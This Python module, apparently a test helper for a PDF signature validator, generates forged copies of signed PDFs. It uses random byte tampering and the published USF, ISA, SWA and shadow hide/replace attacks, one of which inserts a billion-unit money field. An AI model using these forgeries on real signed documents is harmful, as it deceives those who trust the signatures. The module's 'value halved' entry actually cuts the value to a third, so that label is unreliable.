"""Ways to tamper with a signed PDF: bytes at random places, and the attacks that are known by name.

Universal signature forgery (USF), incremental saving (ISA) and signature wrapping (SWA) are those of Mladenov et al.
(2019); hide, replace and hide-and-replace those of the shadow attacks (Mainka et al., 2021), of whose two steps the
second is made here: the change after signing. All give other bytes than they were given, or raise ValueError.
"""

import re
from collections.abc import Callable
from io import BytesIO
from random import Random

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Forgery = Callable[[bytes], bytes]
_HOLE = re.compile(rb"/Contents <([0-9A-Fa-f]+)>")
_RANGE = re.compile(rb"/ByteRange ?(\[[^\]]*\])")
PAINT = b"1 0 0 rg 0 0 600 800 re f"

KINDS = ("flip", "insert", "delete", "truncate")
PLACES = ("content", "signature", "proofs", "anywhere")


def byte_forgery(content: bytes, kind: str, place: str, dice: Random) -> bytes:
    """Change a byte, put some in, take some out or cut the file off: by place.

    `content`: before the first value; `signature`: in a value; `proofs`: between the first value and the last, where
    the certificates and revocation data are; or anywhere.
    """
    where = _place(content, place, dice)
    if kind == "flip":
        return content[:where] + bytes([content[where] ^ (1 << dice.randrange(8))]) + content[where + 1 :]
    if kind == "insert":
        return content[:where] + dice.randbytes(dice.choice((1, 2, 50))) + content[where:]
    if kind == "delete":
        return content[:where] + content[where + dice.choice((1, 2, 50)) :]
    return content[: max(1, where)]


def _place(content: bytes, place: str, dice: Random) -> int:
    holes = [match.span(1) for match in _HOLE.finditer(content)]
    if place == "signature":
        return dice.randrange(*dice.choice(holes))
    if place == "content":
        return dice.randrange(holes[0][0])
    if place == "proofs" and len(holes) > 1:
        return dice.randrange(holes[0][1], holes[-1][0])
    return dice.randrange(len(content))


def _updated(change: Callable[[IncrementalPdfFileWriter], object]) -> Forgery:
    def forge(content: bytes) -> bytes:
        writer = IncrementalPdfFileWriter(BytesIO(content))
        change(writer)
        out = BytesIO()
        writer.write(out)
        return out.getvalue()

    return forge


def _first_page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    page = writer.root["/Pages"]["/Kids"][0]
    if not isinstance(page, generic.DictionaryObject):
        raise ValueError("the file has no page")
    return page


def _numbers(*values: int) -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(value) for value in values])


def _paint(writer: IncrementalPdfFileWriter) -> None:
    page = _first_page(writer)
    page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=PAINT))
    writer.update_container(page)


def _add_page(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    extra = {pdf_name("/Type"): pdf_name("/Page"), pdf_name("/Parent"): writer.root.raw_get("/Pages")}
    pages["/Kids"].append(writer.add_object(generic.DictionaryObject(extra)))
    pages["/Count"] = generic.NumberObject(int(pages["/Count"]) + 1)
    writer.update_container(pages)


def _add_annotation(writer: IncrementalPdfFileWriter, kind: str = "/FreeText") -> None:
    page = _first_page(writer)
    entries = {
        pdf_name("/Type"): pdf_name("/Annot"),
        pdf_name("/Subtype"): pdf_name(kind),
        pdf_name("/Rect"): _numbers(0, 0, 600, 800),
        pdf_name("/Contents"): generic.pdf_string("đã sửa"),
        pdf_name("/C"): _numbers(1, 1, 1),
    }
    notes = page["/Annots"] if "/Annots" in page else generic.ArrayObject()
    page["/Annots"] = generic.ArrayObject([*notes, writer.add_object(generic.DictionaryObject(entries))])
    writer.update_container(page)


def _add_form_value(writer: IncrementalPdfFileWriter) -> None:
    form = writer.root["/AcroForm"]
    entries = {
        pdf_name("/FT"): pdf_name("/Tx"),
        pdf_name("/T"): generic.pdf_string("SoTien"),
        pdf_name("/V"): generic.pdf_string("1000000000"),
    }
    form["/Fields"].append(writer.add_object(generic.DictionaryObject(entries)))
    writer.update_container(form["/Fields"])
    writer.update_container(form)


def _hide(writer: IncrementalPdfFileWriter) -> None:
    """Lay an image over the content, by an update of the page's own resources and content (shadow: hide)."""
    page = _first_page(writer)
    cover = writer.add_object(generic.StreamObject(stream_data=PAINT))
    held = page.raw_get("/Contents")
    parts = list(held) if isinstance(held, generic.ArrayObject) else [held]
    page["/Contents"] = generic.ArrayObject([*parts, cover])
    writer.update_container(page)


def _replace(writer: IncrementalPdfFileWriter) -> None:
    """Give an object that content uses a new version: the visible block's look (shadow: replace)."""
    field = writer.root["/AcroForm"]["/Fields"][0]
    look = generic.StreamObject(
        {pdf_name("/Subtype"): pdf_name("/Form"), pdf_name("/BBox"): _numbers(0, 0, 170, 30)}, stream_data=PAINT
    )
    field["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(look)})
    writer.update_container(field)


def _hide_and_replace(writer: IncrementalPdfFileWriter) -> None:
    """Point the catalog at another tree of pages that lay ready (shadow: hide and replace)."""
    page = {
        pdf_name("/Type"): pdf_name("/Page"),
        pdf_name("/MediaBox"): _numbers(0, 0, 595, 842),
        pdf_name("/Contents"): writer.add_object(generic.StreamObject(stream_data=PAINT)),
    }
    tree = generic.DictionaryObject(
        {pdf_name("/Type"): pdf_name("/Pages"), pdf_name("/Count"): generic.NumberObject(1)}
    )
    reference = writer.add_object(tree)
    page[pdf_name("/Parent")] = reference
    tree["/Kids"] = generic.ArrayObject([writer.add_object(generic.DictionaryObject(page))])
    writer.root["/Pages"] = reference
    writer.update_root()


def _take_form_out(writer: IncrementalPdfFileWriter) -> None:
    del writer.root["/AcroForm"]
    writer.update_root()


def _in_hole(change: Callable[[bytes], bytes]) -> Forgery:
    """Change the first signature's value in its place, with its length kept."""

    def forge(content: bytes) -> bytes:
        found = _HOLE.search(content)
        if found is None:
            raise ValueError("the file has no signature in hex")
        new = change(found[1])
        return content[: found.start(1)] + new.ljust(len(found[1]), b"0") + content[found.end(1) :]

    return forge


def _in_range(new: bytes) -> Forgery:
    """Write another byte range in the first one's place."""

    def forge(content: bytes) -> bytes:
        found = _RANGE.search(content)
        if found is None or len(new) > len(found[1]):
            raise ValueError("no room for the byte range")
        return content[: found.start(1)] + new.ljust(len(found[1])) + content[found.end(1) :]

    return forge


def _wrap(content: bytes) -> bytes:
    """Move what the second part of the byte range covers back, and stand other objects in the gap (SWA)."""
    found, hole = _RANGE.search(content), _HOLE.search(content)
    if found is None or hole is None:
        raise ValueError("the file has no signature")
    begin, length, second, rest = (int(number) for number in found[1].strip(b"[]").split())
    filler = b"\n9999 0 obj\n<</Type /Catalog>>\nendobj\n"
    moved = b"[%d %d %d %d]" % (begin, length, second + len(filler), rest)
    if len(moved) > len(found[1]):
        moved = b"[%d %d %d %d]" % (begin, length, second, rest)
    body = content[: found.start(1)] + moved.ljust(len(found[1])) + content[found.end(1) :]
    return body[:second] + filler + body[second:]


def _append_without_xref(content: bytes) -> bytes:
    return content + b"\n4 0 obj\n<</Length 26>>\nstream\n" + PAINT + b"\nendstream\nendobj\n"


NAMED: dict[str, Forgery] = {
    "painted over": _updated(_paint),
    "page added": _updated(_add_page),
    "note added": _updated(_add_annotation),
    "white square added": _updated(lambda writer: _add_annotation(writer, "/Square")),
    "form value added": _updated(_add_form_value),
    "shadow: hide": _updated(_hide),
    "shadow: replace": _updated(_replace),
    "shadow: hide and replace": _updated(_hide_and_replace),
    "form taken out": _updated(_take_form_out),
    "ISA: objects without cross references": _append_without_xref,
    "ISA: objects and a second trailer": lambda content: (
        _append_without_xref(content) + content[content.rindex(b"startxref") :]
    ),
    "SWA: second part moved": _wrap,
    "USF: value of zeros": _in_hole(lambda old: b"0" * len(old)),
    "USF: value empty": _in_hole(lambda _old: b""),
    "USF: value halved": _in_hole(lambda old: old[: len(old) // 3]),
    "USF: byte range null": _in_range(b"null"),
    "USF: byte range empty": _in_range(b"[]"),
    "USF: byte range negative": _in_range(b"[0 -1 10 -1]"),
    "USF: byte range of nothing": _in_range(b"[0 0 0 0]"),
    "key renamed": lambda content: content.replace(b"/ByteRange", b"/ByteRangX", 1),
}
